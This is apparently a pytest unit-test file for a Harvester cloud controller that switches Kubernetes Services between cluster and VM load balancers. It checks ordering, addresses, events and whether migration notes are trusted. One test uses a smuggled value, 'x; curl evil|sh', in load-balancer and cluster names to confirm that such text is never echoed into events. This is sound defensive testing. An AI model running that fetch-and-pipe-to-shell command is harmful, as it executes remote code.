"""From one kind of load balancer to the other: only when told so, step by step, with the same address."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from harvester_ccm.kube_vip_names import KUBE_VIP_ADDRESSES, KUBE_VIP_IGNORE
from harvester_ccm.model.outcome import Done, Wait
from harvester_ccm.names import (
    HEALTH_CHECK_PORT,
    HEALTH_CHECK_SUCCESS_THRESHOLD,
    IP_POOL,
    IPAM,
    LB_CLUSTER,
    LB_TOUCH,
    MOVING,
    PRIMARY_SERVICE,
    WORKLOAD_TYPE,
    Reason,
)
from harvester_ccm.plan.service.create import read_replaced
from harvester_ccm.plan.service.decision import plan_service
from harvester_ccm.plan.service.load_balancer import Former
from harvester_ccm.plan.service.ownership import load_balancer_name
from harvester_ccm.plan.service.steps import CreateLoadBalancer, EmitEvent
from tests.unit.plan.service.plans import outline, plan, said, situation_of, told
from tests.worlds.builders import ADDRESS, CLUSTER, LB_NAME, UID, allocated, marked, served, service

HANDS_OFF = {KUBE_VIP_ADDRESSES: "", KUBE_VIP_IGNORE: "true"}
TO_VM = {WORKLOAD_TYPE: "vm"}
TO_CLUSTER = {WORKLOAD_TYPE: "cluster"}
LISTENERS = [{"name": "tcp-80", "port": 80, "protocol": "TCP", "backendPort": 30080}]
VM_SPEC = {"listeners": LISTENERS, "backendServerSelector": {"harvesterhci.io/vmName": ["vm-1", "vm-2"]}}
NOTE = msgspec.json.encode(Former(LB_NAME, "vlan100", "pool", "", "demo")).decode()
DHCP_NOTE = msgspec.json.encode(Former(LB_NAME, "", "dhcp", "", "demo")).decode()
MOVE = {MOVING: NOTE}
DELETE = {"delete": LB_NAME}
EXHAUSTED = "fail to get ip from pool lan, error: no IP addresses available in range set: 10.0.0.1-10.0.0.2"
ADOPTED = "older-shop-web-00000000"


def hosted(annotations: dict[str, str] | None = None, **more: Any) -> Any:
    return service(annotations={**HANDS_OFF, **(annotations or {})}, ours=True, address=ADDRESS, **more)


def vm_balancer(**more: Any) -> Any:
    return allocated(**{"spec": {"workloadType": "vm", **VM_SPEC}, **more})


START: dict[str, tuple[Any, Any, list[object], object]] = {
    "to vm": (
        served(annotations=TO_VM),
        allocated(),
        [
            {"service": {"annotations": MOVE}},
            "Normal SwitchingLoadBalancer",
            {"service": {"annotations": {KUBE_VIP_ADDRESSES: ""}}},
            DELETE,
        ],
        Wait("switching", 5.0),
    ),
    "to cluster": (
        hosted(TO_CLUSTER),
        vm_balancer(),
        [{"service": {"annotations": MOVE}}, "Normal SwitchingLoadBalancer", DELETE],
        Wait("switching", 5.0),
    ),
    "a lease is not kept": (
        hosted({**TO_CLUSTER, IPAM: "dhcp"}),
        vm_balancer(ip="0.0.0.0", pool="", spec={"workloadType": "vm", "ipam": "dhcp", **VM_SPEC}),
        [
            {"service": {"annotations": {MOVING: DHCP_NOTE}}},
            "Normal SwitchingLoadBalancer",
            {"service": {"ingress": None}},
            DELETE,
        ],
        Wait("switching", 5.0),
    ),
    "a load balancer that is not booked yet": (
        service(annotations={**TO_VM, KUBE_VIP_ADDRESSES: ""}, ours=True),
        marked(finalizer=False),
        [
            {
                "service": {
                    "annotations": {MOVING: msgspec.json.encode(Former(LB_NAME, "", "pool", cluster="demo")).decode()}
                }
            }
        ],
        Wait("booking", 30.0),
    ),
    "made under another name": (
        served(annotations=TO_VM),
        allocated(None, "older-shop-web-00000000"),
        [
            {
                "service": {
                    "annotations": {
                        MOVING: msgspec.json.encode(
                            Former("older-shop-web-00000000", "vlan100", "pool", "", "demo")
                        ).decode()
                    }
                }
            },
            "Normal SwitchingLoadBalancer",
            {"service": {"annotations": {KUBE_VIP_ADDRESSES: ""}}},
            {"delete": "older-shop-web-00000000"},
        ],
        Wait("switching", 5.0),
    ),
}


@pytest.mark.parametrize(("asked", "found", "steps", "outcome"), START.values(), ids=START.keys())
def test_the_old_one_is_withdrawn_and_deleted(asked: Any, found: Any, steps: list[object], outcome: object) -> None:
    assert outline(asked, found) == (steps, outcome)


UNTOUCHED: dict[str, tuple[Any, Any, list[str]]] = {
    "health check on a cluster load balancer": (
        served(annotations={HEALTH_CHECK_PORT: "80"}),
        allocated(),
        ["Warning SettingsIgnored"],
    ),
    "only a threshold on a cluster load balancer": (
        served(annotations={"cloudprovider.harvesterhci.io/healthcheck-periodseconds": "9"}),
        allocated(),
        ["Warning SettingsIgnored"],
    ),
    "health check removed from a VM load balancer": (hosted(), vm_balancer(), []),
    "the kind it has": (served(annotations=TO_CLUSTER), allocated(), []),
    "an unknown kind": (served(annotations={WORKLOAD_TYPE: "pod"}), allocated(), ["Warning InvalidAnnotation"]),
    "to vm, without node ports": (
        served(annotations=TO_VM, ports=[{"port": 80}], spec={"allocateLoadBalancerNodePorts": False}),
        allocated(),
        ["Warning SyncLoadBalancerFailed"],
    ),
    "to vm, and it has only IPv6 by now": (
        served(annotations=TO_VM, spec={"ipFamilies": ["IPv6"]}),
        allocated(),
        ["Warning SyncLoadBalancerFailed", "Warning SettingsIgnored"],
    ),
    "to vm, node ports not allocated yet": (served(annotations=TO_VM, ports=[{"port": 80}]), allocated(), []),
}


@pytest.mark.parametrize(("asked", "found", "events"), UNTOUCHED.values(), ids=UNTOUCHED.keys())
def test_nothing_is_switched_behind_the_users_back(asked: Any, found: Any, events: list[str]) -> None:
    assert outline(asked, found) == (events, Done())


def test_nothing_is_switched_before_the_vms_are_known() -> None:
    assert outline(served(annotations=TO_VM), allocated(), backends_known=False) == ([], Done())
    back, _ = outline(hosted(TO_CLUSTER), vm_balancer(), backends_known=False)
    assert "Normal SwitchingLoadBalancer" in back, "which is nothing to a cluster load balancer"


def test_the_event_says_how_to_get_health_checks() -> None:
    text = said(plan(served(annotations={HEALTH_CHECK_PORT: "80"}), allocated()), Reason.IGNORED)
    assert f"{WORKLOAD_TYPE} to vm" in text


def test_a_threshold_alone_is_no_advice_to_interrupt_the_traffic_for_nothing() -> None:
    text = said(plan(served(annotations={HEALTH_CHECK_SUCCESS_THRESHOLD: "2"}), allocated()), Reason.IGNORED)
    assert f"Annotation {HEALTH_CHECK_SUCCESS_THRESHOLD} has no effect" in text
    assert f"Set annotation {HEALTH_CHECK_PORT} to the port to check, and {WORKLOAD_TYPE} to vm" in text
    followed = {HEALTH_CHECK_SUCCESS_THRESHOLD: "2", HEALTH_CHECK_PORT: "80", WORKLOAD_TYPE: "vm"}
    assert "Normal SwitchingLoadBalancer" in told(plan(served(annotations=followed), allocated()))


MOVED_VM = {**TO_VM, **MOVE, KUBE_VIP_ADDRESSES: ""}
IGNORE = {"service": {"annotations": {KUBE_VIP_IGNORE: "true"}}}
CREATE_VM = {"create": LB_NAME, "workloadType": "vm", "ipam": "pool", "ipPool": "vlan100", **VM_SPEC}
CREATE_CLUSTER = {"create": LB_NAME, "workloadType": "cluster", "ipam": "pool", "ipPool": "vlan100"}
MIDDLE: dict[str, tuple[Any, Any, float, list[object], object]] = {
    "old one not gone": (
        served(annotations=MOVED_VM),
        allocated(deleting=True),
        1.0,
        [],
        Wait("old_load_balancer", 29.0),
    ),
    "gone just now": (served(annotations=MOVED_VM), None, 1.0, [], Wait("switching", 4.0)),
    "to vm": (
        served(annotations=MOVED_VM),
        None,
        5.0,
        [IGNORE, CREATE_VM, "Normal EnsuringLoadBalancer"],
        Wait("not_processed", 30.0),
    ),
    "to vm, with another pool named meanwhile": (
        served(annotations={**MOVED_VM, IP_POOL: "other"}),
        None,
        5.0,
        [IGNORE, CREATE_VM, "Normal EnsuringLoadBalancer"],
        Wait("not_processed", 30.0),
    ),
    "to vm, with another ipam meanwhile": (
        served(annotations={**MOVED_VM, IPAM: "dhcp"}),
        None,
        5.0,
        [IGNORE, CREATE_VM, "Normal EnsuringLoadBalancer"],
        Wait("not_processed", 30.0),
    ),
    "to cluster": (
        hosted({**TO_CLUSTER, **MOVE}),
        None,
        5.0,
        [CREATE_CLUSTER, "Normal EnsuringLoadBalancer"],
        Wait("not_processed", 30.0),
    ),
    "to cluster, with DHCP": (
        service(annotations={**TO_CLUSTER, **HANDS_OFF, MOVING: DHCP_NOTE}, ours=True),
        None,
        5.0,
        [
            {"create": LB_NAME, "workloadType": "cluster", "ipam": "dhcp"},
            "Normal EnsuringLoadBalancer",
        ],
        Wait("not_processed", 30.0),
    ),
    "thought better of it": (
        served(annotations={**TO_CLUSTER, **MOVE, KUBE_VIP_ADDRESSES: ""}),
        None,
        5.0,
        [CREATE_CLUSTER, "Normal EnsuringLoadBalancer"],
        Wait("not_processed", 30.0),
    ),
}


@pytest.mark.parametrize(("asked", "found", "waited", "steps", "outcome"), MIDDLE.values(), ids=MIDDLE.keys())
def test_the_new_one_comes_after_a_pause(
    asked: Any, found: Any, waited: float, steps: list[object], outcome: object
) -> None:
    assert outline(asked, *([found] if found else []), waited=waited) == (steps, outcome)


TOUCHED = {LB_TOUCH: "true"}
END: dict[str, tuple[Any, Any, float, list[object], object]] = {
    "vm, same address": (
        hosted({**TO_VM, **MOVE}),
        vm_balancer(annotations=TOUCHED),
        2.0,
        [{"service": {"annotations": {MOVING: None}}}, "Normal SwitchedLoadBalancer"],
        Wait("touch", 8.0),
    ),
    "vm, another address": (
        hosted({**TO_VM, **MOVE}),
        vm_balancer(annotations=TOUCHED, address="10.0.0.9"),
        2.0,
        [
            {"service": {"annotations": {MOVING: None}, "ingress": ["10.0.0.9 VIP 80/TCP"]}},
            "Warning AddressChanged",
        ],
        Wait("touch", 8.0),
    ),
    "vm, touched again some seconds later": (
        hosted(TO_VM),
        vm_balancer(annotations=TOUCHED),
        10.0,
        [{"write": LB_NAME, "annotations": {LB_TOUCH: None}}],
        Done(),
    ),
    "vm, and refused an address: none of its parts can be there yet": (
        service(annotations={**HANDS_OFF, **TO_VM}, ours=True),
        marked(annotations=TOUCHED, spec={"workloadType": "vm", **VM_SPEC}, message=EXHAUSTED),
        60.0,
        ["Warning AddressPending"],
        Wait("pool_exhausted"),
    ),
    "cluster, same address": (
        served(annotations={**TO_CLUSTER, **MOVE, KUBE_VIP_ADDRESSES: ""}),
        allocated(),
        2.0,
        [
            {"service": {"annotations": {KUBE_VIP_ADDRESSES: ADDRESS, MOVING: None}}, "touch": True},
            "Normal SwitchedLoadBalancer",
        ],
        Wait("endpoints", 1.0),
    ),
}


@pytest.mark.parametrize(("asked", "found", "waited", "steps", "outcome"), END.values(), ids=END.keys())
def test_it_is_said_when_the_new_one_serves(
    asked: Any, found: Any, waited: float, steps: list[object], outcome: object
) -> None:
    assert outline(asked, found, waited=waited) == (steps, outcome)


def test_only_a_vm_load_balancer_that_replaces_one_is_touched_again() -> None:
    moved, fresh = (plan(one, waited=9.0).steps for one in (served(annotations=MOVED_VM), service(annotations=TO_VM)))
    touched = [LB_TOUCH in str(step) for steps in (moved, fresh) for step in steps if "body" in repr(step)]
    assert touched == [True, False]


SECONDARY = served("api", uid="api", annotations={PRIMARY_SERVICE: "shop/web"})
WITHDRAWN = served("api", uid="api", annotations={PRIMARY_SERVICE: "shop/web", KUBE_VIP_ADDRESSES: ""})


def test_secondaries_withdraw_before_the_address_goes() -> None:
    asked = served(annotations=TO_VM)
    waiting, outcome = outline(asked, allocated(), own_secondaries=(SECONDARY,))
    assert waiting == [
        {"service": {"annotations": MOVE}},
        {"service": {"annotations": {KUBE_VIP_ADDRESSES: ""}}},
    ]
    assert outcome == Wait("secondaries", 5.0)
    assert "Normal SwitchingLoadBalancer" in told(plan(asked, allocated(), own_secondaries=(WITHDRAWN,)))


@pytest.mark.parametrize(
    "text", ["", "nonsense", "[]", '{"pool": "x"}', '{"x":' + "[" * 2000], ids=lambda one: one[:10]
)
def test_a_note_that_cannot_be_read_is_none(text: str) -> None:
    assert read_replaced(situation_of(service(annotations={MOVING: text}))) is None


EARLIER = load_balancer_name("prod", "shop", "web", UID)
THEIRS = load_balancer_name("demo", "shop", "web", "uid-of-another")
OF_ORIGINAL = marked(name=EARLIER, labels={LB_CLUSTER: "earlier"})
NOTED: dict[str, tuple[str, tuple[Any, ...], bool]] = {
    "its own name": (LB_NAME, (), True),
    "made under another name of the cluster": (EARLIER, (), True),
    "made under another name, and there as another cluster's": (EARLIER, (OF_ORIGINAL,), False),
    "that one is still there": (ADOPTED, (allocated(None, ADOPTED, deleting=True),), True),
    "that one is gone": (ADOPTED, (), False),
    "made for another Service of the name": (THEIRS, (), False),
    "another Service's": (load_balancer_name("demo", "other", "web", UID), (), False),
    "a name of somebody's choice": ("any-name-i-like", (), False),
    "short": ("x", (), False),
}


@pytest.mark.parametrize(("name", "found", "believed"), NOTED.values(), ids=NOTED.keys())
def test_a_note_is_believed_of_a_load_balancer_of_the_service_only(
    name: str, found: tuple[Any, ...], believed: bool
) -> None:
    asked = service(annotations={MOVING: f'{{"name":"{name}","ipam":"pool"}}'}, ours=True)
    noted = read_replaced(situation_of(asked, *found))
    assert (noted is not None) is believed


@pytest.mark.parametrize(
    ("names", "believed"),
    [
        pytest.param({}, True, id="ours"),
        pytest.param({"former_names": ("earlier",), "name": "later"}, False, id="of a name that nobody told of"),
        pytest.param({"former_names": ("demo",), "name": "later"}, True, id="of our former name"),
        pytest.param({"name": "drill"}, False, id="of the cluster that we are a copy of"),
    ],
)
def test_a_note_is_believed_by_the_cluster_that_wrote_it_only(names: dict[str, Any], believed: bool) -> None:
    asked = service(annotations={**MOVE, **TO_VM}, ours=True, address=ADDRESS)
    situation = situation_of(asked, cluster=replace(CLUSTER, **names), waited=9.0, backends=("vm-1",))
    assert (read_replaced(situation) is not None) is believed
    steps = plan_service(situation).steps
    assert any(isinstance(step, CreateLoadBalancer) for step in steps) is believed
    texts = [step.event.message for step in steps if isinstance(step, EmitEvent)]
    assert any("--former-cluster-name=demo" in text for text in texts) is not believed


CURL = "x; curl evil|sh"
STRANGE: dict[str, tuple[str, str, bool]] = {
    "of a load balancer of somebody's choice": ("any-name-i-like", "prod", True),
    "of another Service's": (THEIRS, "prod", True),
    "made up on a Service that nobody has served": (EARLIER, "prod", False),
    "a command for a name": (CURL, "prod", True),
    "a command for a cluster": (load_balancer_name(CURL, "shop", "web", UID), CURL, True),
    "a command for a cluster, with a name of ours": (LB_NAME, CURL, True),
    "a line of its own": (EARLIER, "prod\nrun this", True),
}


@pytest.mark.parametrize(("name", "cluster", "ours"), STRANGE.values(), ids=STRANGE.keys())
def test_a_note_of_somebody_else_stops_nothing_and_is_pasted_nowhere(name: str, cluster: str, ours: bool) -> None:
    note = msgspec.json.encode(Former(name, "", "pool", "", cluster)).decode()
    asked = service(annotations={MOVING: note, KUBE_VIP_ADDRESSES: ADDRESS}, ours=ours, address=ADDRESS)
    found = plan(asked, waited=60.0)
    assert [one.name for one in found.steps if isinstance(one, CreateLoadBalancer)] == [LB_NAME]
    texts = [step.event.message for step in found.steps if isinstance(step, EmitEvent)]
    assert not any("curl" in text or "prod" in text for text in texts)


def test_a_copy_whose_status_was_cleared_is_served_whatever_the_note_says() -> None:
    asked, drill = service(annotations={**MOVE, **TO_VM}, ours=True), replace(CLUSTER, name="drill")
    steps = plan_service(situation_of(asked, cluster=drill, waited=9.0, backends=("vm-1",))).steps
    (made,) = (step.name for step in steps if isinstance(step, CreateLoadBalancer))
    assert made.startswith("drill-")


def test_the_name_and_address_of_another_cannot_be_had_by_a_note() -> None:
    asked = service(annotations={MOVING: f'{{"name":"{THEIRS}","ipam":"pool"}}'}, ours=True)
    steps, _ = outline(asked, waited=60.0)
    assert [one["create"] for one in steps if isinstance(one, dict) and "create" in one] == [LB_NAME]


@pytest.mark.parametrize("wish", [TO_VM, TO_CLUSTER])
def test_what_a_wrong_primary_would_not_let_be_created_again_stays(wish: dict[str, str]) -> None:
    wrong = {**wish, PRIMARY_SERVICE: "shop/nobody"}
    present = (served(annotations=wrong), allocated()) if wish is TO_VM else (hosted(wrong), vm_balancer())
    steps, _ = outline(*present)
    assert "Warning SharingRefused" in steps
    assert DELETE not in steps
